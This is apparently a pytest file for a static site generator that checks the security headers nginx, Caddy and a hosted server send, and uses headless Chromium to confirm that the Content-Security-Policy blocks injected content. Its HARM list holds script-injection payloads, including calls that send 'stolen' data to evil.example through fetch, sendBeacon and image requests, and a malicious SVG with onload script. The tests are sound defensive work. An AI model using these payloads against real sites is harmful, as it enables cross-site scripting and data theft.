"""Hostile visitors of a published site: its headers as real servers send them, and pages that are made to do harm."""

from __future__ import annotations

import http.client
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest

from sitegen.config import read_config
from sitegen.newsroom.plan.headers import header_rules, headers_for
from tests.attacks.table import Attempts, attack
from tests.browser.chromium import chromium
from tests.browser.server import served
from tests.browser.site import png
from tests.servers import Address, caddy, nginx, sample
from tests.site import SEARCHED, Built, build_site, make_site, post

AREA = "Visitors"
CONFIG = SEARCHED.replace("[tool.sitegen.feeds]", "headers = {enabled = true, hsts = 86400}\n[tool.sitegen.feeds]")
STORY = "/2025/11/22/story/"
DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title = \'harmed\'"><script>document.title = "harmed"'
    '</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject></svg>'
)
FILES: dict[str, str | bytes] = {
    "pyproject.toml": CONFIG,
    "content/posts/2025-11-22-story/index.md": post(
        tags=["chips", "人工智能"], image={"src": "lead.png", "alt": "One colour"}
    ),
    "content/posts/2025-11-22-story/lead.png": png(640, 360),
    "content/posts/2024-01-01-old.md": post("Old", "2024-01-01", aliases=["/former/"]),
    "static/drawing.svg": DRAWING,
    "static/a b.txt": "Ünïcode\n",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Built:
    return build_site(make_site(tmp_path_factory.mktemp("headers") / "site", FILES))


@contextmanager
def by_nginx(site: Built, folder: Path) -> Iterator[Address]:
    with nginx(folder, sample("headers.md", "nginx").replace("/srv/news/public", str(site.output))) as address:
        yield address


@contextmanager
def by_caddy(site: Built, folder: Path) -> Iterator[Address]:
    with caddy(folder, sample("headers.md", "caddy").replace("/srv/news/public", str(site.output))) as address:
        yield address


@contextmanager
def by_host(site: Built, _: Path) -> Iterator[Address]:
    """As Cloudflare Pages would: tests/hosts.py."""
    with served(site.output) as url:
        yield "127.0.0.1", int(url.rpartition(":")[2])


Server = Callable[[Built, Path], AbstractContextManager[Address]]


def answers(address: Address, paths: list[str]) -> Iterator[tuple[str, int, dict[str, str]]]:
    connection = http.client.HTTPConnection(*address, timeout=10)
    for path in paths:
        connection.request("GET", path)
        answer = connection.getresponse()
        answer.read()
        found: dict[str, str] = {}
        for name, value in answer.getheaders():
            assert name.lower() not in found, f"{path} has {name} twice"
            found[name.lower()] = value
        yield path, answer.status, found
    connection.close()


@attack(
    AREA,
    "Each file of a published site is asked for, and some that are not there",
    "with every answer come the headers of its kind; from nginx and Caddy, too",
)
@pytest.mark.parametrize("server", [by_nginx, by_caddy, by_host])
def test_servers_say_with_each_file_what_they_were_told_to(
    server: Server, site: Built, tmp_path: Path, attempts: Attempts
) -> None:
    rules = header_rules(read_config(CONFIG))
    hidden = ("_headers", "headers.caddy", "404.html")  # hosts and Caddy keep the first two to themselves
    there = [quote(f"/{path}".removesuffix("index.html")) for path in site.files() if path not in hidden]
    missing = ["/no/such/", "/assets/site.000000000000.js", "/no.svg", "/search/no", "/no/feed.xml", "/a%0Ab"]
    policies = set()
    with server(site, tmp_path) as address:
        for path, status, told in answers(address, [*there, *missing]):
            assert status == (404 if path in missing else 200), path
            expected = headers_for("/404.html" if path in missing and server is not by_host else path, rules)
            if path in missing:  # nginx says nothing of how long they may be kept, Caddy as of a page
                assert "immutable" not in told.get("cache-control", "") or server is by_host, path
                expected = {
                    name: value for name, value in expected.items() if name not in ("Cache-Control", "Content-Type")
                }
            assert {name: told.get(name.lower()) for name in expected} == expected, path
            assert "unsafe-inline" not in str(told)
            policies.add(told["content-security-policy"])
            attempts.made(server is by_host)  # the others are not everywhere
    assert len(policies) == 3, "pages, the search, drawings"


# ── A page that is made to do harm ──────────────────────────────────────────────────────────────────

# What a page has before its own scripts, so that the harm below is short; `harm` is what must not be reached.
HELPERS = """
window.harm = () => { window.harmed = true; };
window.put = (name, properties, into = document.body) =>
  into.append(Object.assign(document.createElement(name), properties));
window.blob = (code = "harm()") => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
window.look = () => getComputedStyle(document.querySelector("h1")).position === "fixed" && harm();
"""
# What a hole in a template or in the sanitiser would let into a page: each would call harm(), or ask evil.example.
HARM = (
    "put('script', { textContent: 'harm()' })",
    "put('script', { type: 'module', textContent: 'harm()' })",
    "put('script', { src: 'data:text/javascript,harm()' })",
    "put('script', { src: 'https://evil.example/a.js' })",
    "put('script', { src: blob() })",
    "document.body.innerHTML += '<img src=/favicon.ico onload=harm()>'",
    "document.body.insertAdjacentHTML('beforeend', '<svg onload=harm()></svg>')",
    "document.write('<script>harm()</' + 'script>')",
    "document.body.setAttribute('onclick', 'harm()'); document.body.click()",
    "put('iframe', { srcdoc: '<script>parent.harm()</script>' })",
    "put('iframe', { src: 'https://evil.example/' })",
    "put('iframe', { src: 'javascript:parent.harm()' })",
    "put('iframe', { src: '/', onload() { if (this.contentDocument) harm(); } })",
    "put('object', { data: 'data:text/html,<script>parent.harm()</script>' })",
    "put('object', { data: 'https://evil.example/a.swf' })",
    "put('embed', { src: 'https://evil.example/a.svg' })",
    "put('a', { href: 'javascript:harm()', id: 'x' }); document.getElementById('x').click()",
    "location = 'javascript:harm()'",
    "eval('harm()')",
    "new Function('harm()')()",
    "setTimeout('harm()', 0)",
    "import('data:text/javascript,harm()')",
    "import(blob())",
    "new Worker(blob('postMessage(1)')).onmessage = harm",
    "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); harm()",
    "trustedTypes.createPolicy('default', { createHTML: String }); harm()",
    "put('base', { href: 'https://evil.example/' }, document.head); if (document.baseURI.includes('evil')) harm()",
    "put('form', { action: 'https://evil.example/', id: 'x' }); document.getElementById('x').submit()",
    "fetch('https://evil.example/?stolen')",
    "new WebSocket('wss://evil.example/').onopen = harm",
    "new EventSource('https://evil.example/')",
    "navigator.sendBeacon('https://evil.example/', 'stolen')",
    "put('img', { src: 'https://evil.example/?stolen' })",
    "put('video', { src: 'https://evil.example/?stolen' })",
    "put('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' }, document.head)",
    "put('link', { rel: 'prefetch', href: 'https://evil.example/?stolen' }, document.head)",
    "put('style', { textContent: 'h1 { position: fixed }' }, document.head); look()",
    "document.querySelector('h1').setAttribute('style', 'position: fixed'); look()",
)
FOR_SEARCH = ("WebAssembly", "createPolicy")  # what the search page's policy lets in
SETTLED = "new Promise((done) => setTimeout(() => done(Boolean(window.harmed)), 100))"


@attack(
    AREA, "Script, style, frames, forms and requests are put into a published page", "browsers are told to refuse each"
)
@pytest.mark.soak
def test_what_a_hole_would_let_into_a_page_does_nothing(site: Built, attempts: Attempts) -> None:
    with served(site.output) as address, chromium() as browser, browser.new_context() as context:
        context.add_init_script(HELPERS)
        page = context.new_page()
        page.goto(address + "/")
        page.evaluate("setTimeout(harm, 0)")
        assert page.evaluate(SETTLED), "harm is seen"
        gone: list[str] = []
        page.on("response", lambda answer: gone.append(answer.url))
        page.on("requestfailed", lambda request: gone.append(request.url) if request.failure != "csp" else None)
        for path in ("/", STORY, "/tags/chips/", "/search/", "/no/such/page/"):
            for harm in HARM:
                if path == "/search/" and any(word in harm for word in FOR_SEARCH):
                    continue
                page.goto(address + path)
                page.evaluate(f"setTimeout(() => {{ {harm} }}, 0), 0")  # not in evaluate itself, which may do all
                assert not page.evaluate(SETTLED), harm
                assert page.url == address + path, harm
                attempts.made()
        assert [url for url in gone if urlsplit(url).hostname == "evil.example"] == []


@attack(AREA, "A drawing that holds script is opened by itself", "browsers are told to run nothing of it")
@pytest.mark.soak
def test_a_drawing_runs_nothing(site: Built, attempts: Attempts) -> None:
    with served(site.output) as address, chromium() as browser, browser.new_page() as page:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.goto(f"{address}/drawing.svg")
        page.wait_for_timeout(200)
        assert page.evaluate("document.title") != "harmed"
        assert asked == [f"{address}/drawing.svg"]
        attempts.made()
